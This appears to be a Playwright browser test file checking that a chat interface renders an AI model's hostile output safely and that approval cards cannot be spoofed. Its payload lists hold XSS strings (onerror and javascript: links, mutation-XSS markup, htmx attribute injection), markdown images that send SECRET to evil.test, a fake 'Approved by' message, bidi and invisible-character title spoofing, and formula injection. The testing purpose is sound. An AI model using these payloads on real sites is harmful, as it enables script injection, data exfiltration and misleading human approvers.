"""Hostile text in the browser (reliability.md B31 to B56; I15, I17, I18): nothing is asked for elsewhere, nothing else changes."""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Playwright, expect

from e2e.conftest import PASSWORD, Server
from e2e.pages.journey import Journey
from e2e.pages.stage import Stage
from tests.support.firefox import running_firefox
from tests.web.test_markdown import OWN

pytestmark = pytest.mark.browser
Open = Callable[..., Journey]
PAYLOADS = [
    "![a](https://evil.test/?d=SECRET) [![a][1]](https://evil.test/y)\n\n[1]: https://evil.test/?d=SECRET",  # B31
    "| a |\n|---|\n| ![a](https://evil.test/x) |",
    "[x](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [x](data:text/html,<b>) [x](vbscript:x) [x](//evil.test)",  # B32
    "[x](\\\\evil.test) [x](HTTPS:evil.test) [shown](https://good.test@evil.test/a) <https://evil.test/a>",  # B33
    "[x](/runs/1/approve) [x](/runs/00000000-0000-0000-0000-000000000000/approval) [x](/sign-out)",  # B34
    "<form action=/approve><button formaction=/x name=decision value=approve>Approve 2 steps</button></form>",  # B35
    '<div hx-get="/x" data-hx-get="/x" hx-trigger="load">x</div>',  # B36
    '<div id="say" hx-swap-oob="true">x</div><li id="m1" hx-swap-oob="outerHTML">x</li>',  # B37
    '<hx-partial hx-target="article">x</hx-partial><template hx type="partial">x</template>',  # B38
    "<title>Owned</title><base href=//evil.test><meta http-equiv=refresh content=0><link rel=prefetch href=//evil.test>",  # B39
    "<svg><use href=//evil.test></svg><math><mi//xlink:href=//evil.test><img src=x onerror=alert(1)><!-- x -->",  # B40
    "<noscript><p title='</noscript><img src=//evil.test onerror=alert(1)>'><style>*{}</style><script>alert(1)</script>",
    "✔ Approved by Anna Bergmann\n\n```\n+-----------+\n|  Approve  |\n+-----------+\n```",  # B41
    "first" + "\n" * 200 + "last",  # B42
    "> " * 300 + "deep " + "[" * 20_000,  # B43
    '```"><x onload=alert(1)\ncode\n```',  # B44
]
TITLES = {
    "rechnung\u202efdp.exe": "rechnung⟨U+202E⟩fdp.exe",  # B45
    "a\u200bb\u00adc\u2060d\ufefff\u3164g\U000e0041h": "a⟨U+200B⟩b⟨U+00AD⟩c⟨U+2060⟩d⟨U+FEFF⟩f⟨U+3164⟩g⟨U+E0041⟩h",  # B46
    "H" + "\u0301" * 200: "H" + "\u0301" * 60,  # B48
    "W" * 10_000: "W" * 60,  # B50
    "{{7*7}} %s %(n)s ${x} __proto__ =cmd|x": "{{7*7}} %s %(n)s ${x} __proto__ =cmd|x",  # B54
    "3 further records are not shown.": "3 further records are not shown.",  # B55
    "Anna https://evil.test/a www.evil.test": "Anna https://evil.test/a www.evil.test",  # B56
    "<img src=//evil.test onerror=alert(1)>": "<img src=//evil.test onerror=alert(1)>",
}
FAMILY = "\U0001f469\u200d\U0001f469\u200d\U0001f467"
STATE = """() => ({
  title: document.title,
  regions: ['say', 'alert', 'statusline'].map(id => document.querySelectorAll(`#${id}`).length),
  card: document.querySelector('article.approval-card')?.outerHTML,
  forms: document.forms.length,
  buttons: document.querySelectorAll('button').length,
})"""
PROSE = """() => [...document.querySelectorAll('#log .prose *')].flatMap(node =>
  [...node.attributes].map(({ name, value }) => [node.tagName, name, value]))"""
ALLOWED = {("PRE", "tabindex"), ("DIV", "tabindex"), ("DIV", "role"), ("DIV", "class"), ("DIV", "aria-label")}


@pytest.fixture(scope="module")
def firefox(playwright: Playwright) -> Iterator[Browser]:
    """One Firefox for these checks; the contexts in it are new for each."""
    with running_firefox(playwright) as browser:
        yield browser


@pytest.fixture(params=["chromium", "firefox"])
def reader(request: pytest.FixtureRequest, open_journey: Open, server: Server) -> Iterator[Journey]:
    """Anna in Chromium and in Firefox."""
    if request.param == "chromium":
        yield open_journey("anna")
        return
    browser: Browser = request.getfixturevalue("firefox")
    context = browser.new_context(base_url=server.url, locale="en-GB")
    anna = Journey(context.new_page(), server.url, server.site)
    anna.sign_in("anna", PASSWORD)
    yield anna
    context.close()


def foreign(context: BrowserContext, url: str) -> list[str]:
    """Requests that leave the site, and what the page complains about, from now on."""
    found: list[str] = []
    context.on("request", lambda request: None if request.url.startswith(url) else found.append(request.url))
    context.on("weberror", lambda error: found.append(str(error.error)))
    context.on("console", lambda message: found.append(message.text) if message.type == "error" else None)
    context.on("dialog", lambda dialog: (found.append(dialog.message), dialog.dismiss()))
    return found


@pytest.mark.parametrize("engine", ["chromium", "firefox"])
def test_i17_what_would_leave_the_site_is_noticed(
    engine: str, browser: Browser, server: Server, request: pytest.FixtureRequest
) -> None:
    opened: Browser = browser if engine == "chromium" else request.getfixturevalue("firefox")
    context = opened.new_context(base_url=server.url)
    page = context.new_page()
    page.goto("/sign-in")
    found = foreign(context, server.url)
    for leave in (
        "document.body.append(Object.assign(new Image(), {src: 'https://evil.test/picture'}))",
        "fetch('https://evil.test/fetched').catch(() => 0)",
        "setTimeout(() => { throw new Error('thrown') })",
        "setTimeout(() => alert('shown'))",
    ):
        found.clear()
        page.evaluate(f"() => {{ {leave} }}")
        page.wait_for_timeout(300)
        assert found != [], (
            leave
        )  # the request is seen, or the policy stops it and says so: "nothing" below means nothing
    context.close()


def test_b31_to_b44_text_of_the_model_only_can_be_read(reader: Journey, server: Server) -> None:
    stage, page = Stage(server), reader.page
    number = stage.conversation(title="Own title")
    stage.ask(number, "Hide the page 'Press'")
    page.goto(f"/conversations/{number}")
    expect(reader.card).to_be_visible()
    page.wait_for_function("window.htmx")
    found, before = foreign(page.context, server.url), page.evaluate(STATE)
    for place, payload in enumerate(PAYLOADS):  # once by the poll, once with the page
        stage.say(number, payload)
        page.evaluate("htmx.trigger('#beacon', 'poll-now', {}, false)")
        expect(page.locator("#log .prose")).to_have_count(place + 2)
    page.wait_for_timeout(300)
    assert page.evaluate(STATE) == before
    _assert_grammar(page)
    page.reload()
    page.wait_for_timeout(300)
    after = page.evaluate(STATE)
    assert {**after, "card": _without_token(after["card"])} == {**before, "card": _without_token(before["card"])}
    _assert_grammar(page)
    assert found == []
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    fake = page.locator("#log > li", has_text="✔ Approved by").last  # B41: inside the entry of the assistant
    assert fake.get_attribute("data-role") == "assistant"
    lines = page.locator("#log > li", has_text="first").last.locator(".prose")
    box = lines.bounding_box()
    assert box is not None
    assert box["height"] < 300  # B42
    expect(page.locator("#log .prose", has_text="evil.test").first).to_be_visible()  # B33: the host is shown


def _without_token(card: str) -> str:
    return re.sub(r'name="token" value="[^"]*"', "", re.sub(r'name="csrf_token" value="[^"]*"', "", card))


def _assert_grammar(page: Page) -> None:
    for tag, name, value in page.evaluate(PROSE):
        assert (tag, name) in ALLOWED or (tag == "A" and name == "href" and OWN.fullmatch(value)), (tag, name, value)
    assert (
        page.locator("#log .prose").locator("img, form, button, iframe, script, style, svg, template, input").count()
        == 0
    )


def test_b45_to_b56_titles_show_what_hides_in_them(reader: Journey, server: Server) -> None:
    stage, page = Stage(server), reader.page
    found = foreign(page.context, server.url)
    live = server.site.pages["press"]
    number = stage.conversation()
    for title, shown in TITLES.items():
        stage.rename("press", title)
        stage.change(number, status="idle", title=title[:255])
        stage.script(
            [("hide_record", {"table": "pages", "uid": live})], [("show_record", {"table": "pages", "uid": live})]
        )
        assert stage.ask(number, "Please.") == "awaiting_approval"
        page.goto(f"/conversations/{number}")
        for place in ("h1 bdi", ".threads__link[aria-current] bdi", "article h4", "article .record__title bdi"):
            expect(page.locator(place).last).to_contain_text(shown)
        assert reader.sideways == [], title[:20]
        assert page.locator("#conversation a[href*='evil']").count() == 0
        stage.decide(number, approve=False)
        stage.script()
    assert found == []


def test_i15_two_values_that_differ_look_different_on_card_and_list(reader: Journey, server: Server) -> None:
    stage, page = Stage(server), reader.page
    number, seen = stage.conversation(), {"Press": "the title it has"}
    uid = server.site.pages["press"]
    values = [
        "Press",
        "Pre\u200bss",
        "Pre\u200dss",
        "Press\ufe0f",
        "Pre\u202ess",
        "Press\u2028",
        "Pr  ess",
        "Pr ess",
        "Press\U000e0070",
        FAMILY,
    ]
    for place, value in enumerate(values):
        stage.script([("update_page_metadata", {"page": uid, "title": value, "nav_title": f"Try {place}"})])
        status = stage.ask(number, "Please.")
        if status != "awaiting_approval":
            continue  # refused before a card: nothing to be misled by
        page.goto(f"/conversations/{number}")
        field = page.locator("article[data-state=waiting] [data-field=title] ins")
        shown = field.inner_text() if field.count() else "(unchanged)"
        looks = "".join(sign for sign in shown if unicodedata.category(sign) not in {"Cf", "Cc", "Mn", "Zl", "Zp"})
        assert looks not in seen, (value, seen)
        seen[looks] = shown
        stage.script()
        stage.decide(number, approve=False)
    assert FAMILY in seen.values()  # B49: what people see as one sign stays one
    assert len(seen) >= 8
    page.goto("/conversations")
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_b45_the_list_shows_what_hides_in_titles(reader: Journey, server: Server) -> None:
    stage, page = Stage(server), reader.page
    number = stage.conversation()
    stage.ask(number, "Hide the page 'Press'")
    stage.decide(number)
    for title in ("press\u202efdp", "b\u200bb", "\u3164", "3 further records are not shown."):
        stage.rename_everywhere("press", "Press", title)
        page.goto(f"/conversations/{number}?changes=1")
        shown = {"press\u202efdp": "press⟨U+202E⟩fdp", "b\u200bb": "b⟨U+200B⟩b", "\u3164": "untitled"}.get(title, title)
        expect(page.locator("#changes-body .record__title bdi")).to_have_text(
            shown
        )  # B51, B55: in an element of its own
        if title != "\u3164":
            expect(page.locator("#changes-body [id$=-history]")).to_contain_text(shown)
        stage.rename_everywhere("press", title, "Press")
